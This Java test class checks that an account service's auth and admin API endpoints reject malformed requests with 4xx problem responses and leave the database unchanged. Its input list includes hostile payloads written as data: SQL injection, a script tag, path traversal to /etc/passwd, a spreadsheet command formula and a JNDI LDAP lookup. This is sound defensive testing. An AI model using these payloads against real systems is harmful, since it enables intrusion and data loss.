package id.tm.account;

import static id.tm.account.AccountSteps.anonymous;
import static org.assertj.core.api.Assertions.assertThat;

import id.tm.testing.Actor;
import id.tm.testing.Actors;
import id.tm.testing.ServiceTest;
import io.restassured.http.ContentType;
import io.restassured.http.Method;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;

/** T13: whatever is sent, the answer is a problem with a 4xx status, and nothing has changed. */
@ServiceTest
class AccountBadInputTest {

    private record Target(
            Method method, String path, Supplier<RequestSpecification> caller, Map<String, Object> valid) {}

    private static final List<String> NASTY = List.of(
            "",
            "   ",
            "\u0000",
            "a\u0000b",
            "😀😀😀",
            "' or '1'='1' --",
            "'; drop table users; --",
            "<script>alert(1)</script>",
            "../../../etc/passwd",
            "=cmd|'/c calc'!A1",
            "${jndi:ldap://x.test/a}",
            "{{7*7}}",
            "\ud800",
            "x".repeat(10_000));

    @Test
    void nothingThatIsWrongGetsThrough() {
        Actor admin = Actors.superAdmin();
        Actor member = Actors.member();
        Actor targetAdmin = Actors.admin("users:read");
        Map<String, Object> profile = new HashMap<>(Map.of(
                "fullName", "Made",
                "phone", "081298765432",
                "zone", "Asia/Jakarta",
                "locale", "id",
                "professionId", "00000000-0000-0000-0000-000000000000",
                "guardianName", "Siti",
                "guardianConsent", true));
        List<Target> targets = List.of(
                new Target(
                        Method.POST,
                        "/api/v1/auth/registrations",
                        AccountSteps::anonymous,
                        AccountSteps.registration("t13@accounts.test")),
                new Target(
                        Method.POST,
                        "/api/v1/auth/tokens",
                        AccountSteps::anonymous,
                        Map.of("login", "t13@accounts.test", "password", "some password")),
                new Target(
                        Method.POST,
                        "/api/v1/admin/auth/tokens",
                        AccountSteps::anonymous,
                        Map.of("login", "t13@accounts.test", "password", "some password")),
                new Target(
                        Method.POST,
                        "/api/v1/auth/tokens/refresh",
                        AccountSteps::anonymous,
                        Map.of("refreshToken", "none", "nonce", "n")),
                new Target(
                        Method.POST,
                        "/api/v1/auth/email-verifications",
                        AccountSteps::anonymous,
                        Map.of("token", "none")),
                new Target(
                        Method.POST,
                        "/api/v1/auth/email-verifications/resend",
                        AccountSteps::anonymous,
                        Map.of("email", "t13@accounts.test")),
                new Target(
                        Method.POST,
                        "/api/v1/auth/reauthentications",
                        member::given,
                        Map.of("password", "some password")),
                new Target(Method.POST, "/api/v1/me/totp/confirmation", member::given, Map.of("code", "123456")),
                new Target(Method.POST, "/api/v1/me/totp/recovery-codes", member::given, Map.of("code", "123456")),
                new Target(Method.POST, "/api/v1/admin/me/totp/removal", admin::given, Map.of("code", "123456")),
                new Target(
                        Method.POST,
                        "/api/v1/admin/users/" + member.id() + "/totp-resets",
                        admin::given,
                        Map.of("reason", "Ponsel hilang")),
                new Target(
                        Method.POST,
                        "/api/v1/auth/email-changes/confirmations",
                        AccountSteps::anonymous,
                        Map.of("token", "none")),
                new Target(
                        Method.POST,
                        "/api/v1/auth/email-changes/reversals",
                        AccountSteps::anonymous,
                        Map.of("token", "none")),
                new Target(Method.PUT, "/api/v1/me/email", member::given, Map.of("email", "not an address")),
                new Target(
                        Method.POST,
                        "/api/v1/me/api-keys",
                        member::given,
                        Map.of("name", "Key", "scopes", List.of("me:admin"), "expiresAt", "2026-12-01T00:00:00Z")),
                new Target(
                        Method.POST,
                        "/api/v1/me/api-keys/00000000-0000-0000-0000-000000000000/rotation",
                        member::given,
                        Map.of("overlapHours", 1)),
                new Target(
                        Method.PUT,
                        "/api/v1/me/password",
                        member::given,
                        Map.of("currentPassword", "some password", "newPassword", "empat kata yang panjang")),
                new Target(
                        Method.PUT,
                        "/api/v1/admin/me/password",
                        admin::given,
                        Map.of("currentPassword", "some password", "newPassword", "empat kata yang panjang")),
                new Target(
                        Method.POST,
                        "/api/v1/auth/password-resets",
                        AccountSteps::anonymous,
                        Map.of("email", "t13@accounts.test")),
                new Target(
                        Method.POST,
                        "/api/v1/admin/auth/password-resets",
                        AccountSteps::anonymous,
                        Map.of("email", "t13@accounts.test")),
                new Target(
                        Method.PUT,
                        "/api/v1/auth/password-resets/none",
                        AccountSteps::anonymous,
                        Map.of("password", "empat kata yang panjang")),
                new Target(
                        Method.PUT,
                        "/api/v1/admin/auth/password-resets/none",
                        AccountSteps::anonymous,
                        Map.of("password", "empat kata yang panjang")),
                new Target(Method.PUT, "/api/v1/me", () -> member.given().header("If-Match", "*"), profile),
                new Target(
                        Method.POST,
                        "/api/v1/admin/admins",
                        admin::given,
                        Map.of(
                                "email", "t13@accounts.test",
                                "fullName", "Rina",
                                "password", "empat kata yang panjang",
                                "locale", "id",
                                "roles", List.of("no-such-role"))),
                new Target(
                        Method.PUT,
                        "/api/v1/admin/admins/" + targetAdmin.id(),
                        () -> admin.given().header("If-Match", "*"),
                        Map.of("fullName", "Rina", "locale", "id", "roles", List.of("no-such-role"))),
                new Target(
                        Method.POST,
                        "/api/v1/admin/roles",
                        admin::given,
                        Map.of("name", "t13-role", "permissions", List.of("no:such"))),
                new Target(
                        Method.POST,
                        "/api/v1/admin/professions",
                        admin::given,
                        Map.of("name", "Guru", "nameEn", "Teacher", "active", true)),
                new Target(
                        Method.PUT,
                        "/api/v1/admin/users/" + member.id() + "/roles",
                        () -> admin.given().header("If-Match", "*"),
                        Map.of("roles", List.of("no-such-role"))));
        String before = state();
        for (Target target : targets) {
            for (String body : List.of("", "null", "[]", "42", "\"text\"", "{", "{\"a\":", "{\"unknown\":1}", "{}")) {
                assertRefused(target, body, target.caller().get().body(body).request(target.method(), target.path()));
            }
            assertRefused(
                    target,
                    "another media type",
                    target.caller()
                            .get()
                            .contentType(ContentType.XML)
                            .body("<a/>")
                            .request(target.method(), target.path()));
            for (String field : target.valid().keySet()) {
                for (Object value : wrong(target, field)) {
                    Map<String, Object> body = new LinkedHashMap<>(target.valid());
                    body.put(field, value);
                    assertRefused(
                            target,
                            field + "=" + value,
                            target.caller().get().body(body).request(target.method(), target.path()));
                }
            }
        }
        assertThat(state()).isEqualTo(before);
    }

    private static List<Object> wrong(Target target, String field) {
        List<Object> values = new ArrayList<>();
        boolean anyTextIsLegal =
                List.of("bio", "address", "deviceName", "reason").contains(field);
        boolean toggle = field.equals("acceptTerms")
                || field.equals("marketingConsent")
                || List.of("active", "guardianConsent").contains(field);
        // What is only looked up may be any text: it is not found, which is a 4xx of its own.
        boolean password = field.equals("newPassword")
                || field.equals("password")
                        && (target.path().contains("registrations")
                                || target.path().contains("password-resets"));
        boolean lookup = List.of("token", "refreshToken", "nonce", "login").contains(field)
                || field.equals("currentPassword")
                || field.equals("password")
                        && (target.path().endsWith("/auth/tokens")
                                || target.path().endsWith("/reauthentications"));
        if (!anyTextIsLegal && !lookup && !password) values.addAll(NASTY);
        if (lookup && !field.equals("login") && !field.toLowerCase().contains("password"))
            values.add("x".repeat(10_000));
        if (lookup) values.addAll(List.of("", "x".repeat(10_000)));
        if (password) values.addAll(List.of("", "short", "x".repeat(10_000), "password1234"));
        values.add(Map.of("a", 1));
        values.add(List.of(List.of(1)));
        if (!toggle && !List.of("nonce", "professionId", "guardianName", "zone").contains(field)) values.add(null);
        if (toggle) values.addAll(List.of("perhaps", 7));
        return values;
    }

    private static void assertRefused(Target target, String what, Response answer) {
        String shown = what.length() > 60 ? what.substring(0, 60) + "…" : what;
        assertThat(answer.statusCode())
                .as("%s %s %s: %s", target.method(), target.path(), shown, answer.asString())
                .isBetween(400, 499);
        assertThat(answer.contentType()).as(target.path() + " " + shown).startsWith("application/problem+json");
        assertThat(answer.<String>path("code")).isNotBlank();
        assertThat(answer.asString()).doesNotContain("Exception", "id.tm.", "select ", "org.hibernate");
    }

    @Test
    void pathsAndHeadersMayBeNonsenseToo() {
        Actor admin = Actors.superAdmin();
        Actor member = Actors.member();
        for (String id : List.of("1", "null", "%00", "..%2f..", "😀", "00000000-0000-0000-0000-000000000000")) {
            for (String path : List.of("/api/v1/admin/users/", "/api/v1/admin/admins/", "/api/v1/admin/roles/")) {
                assertThat(admin.given()
                                .urlEncodingEnabled(!id.contains("%"))
                                .get(path + id)
                                .statusCode())
                        .as(path + id)
                        .isBetween(400, 499);
            }
            assertThat(member.given()
                            .urlEncodingEnabled(!id.contains("%"))
                            .delete("/api/v1/me/sessions/" + id)
                            .statusCode())
                    .isBetween(400, 499);
        }
        for (String token : List.of(
                "x", "a.b.c", "null", member.token() + "x", member.token().substring(5))) {
            anonymous().auth().oauth2(token).get("/api/v1/me").then().statusCode(401);
        }
        for (String tag : List.of("", "nonsense", "\"-1\"", "W/\"0\"", "x".repeat(2_000))) {
            assertThat(member.given()
                            .header("If-Match", tag)
                            .body(Map.of(
                                    "fullName", "X", "phone", "081298765432", "zone", "Asia/Jakarta", "locale", "id"))
                            .put("/api/v1/me")
                            .statusCode())
                    .isIn(412, 428);
        }
    }

    /** A fingerprint of every row that such requests could have changed. */
    private static String state() {
        List<String> parts = new ArrayList<>();
        for (String table : List.of(
                "users",
                "profiles",
                "admins",
                "roles",
                "role_permissions",
                "user_roles",
                "admin_roles",
                "permissions",
                "email_verifications",
                "password_resets",
                "totp_credentials",
                "email_changes",
                "user_apis",
                "totp_resets",
                "user_consents",
                "master_professions",
                "refresh_tokens")) {
            parts.add(table + " "
                    + AccountSteps.one(
                            "select coalesce(md5(string_agg(cast(t as text), ',' order by cast(t as text))), '') from "
                                    + table + " t"));
        }
        return String.join("\n", parts);
    }
}
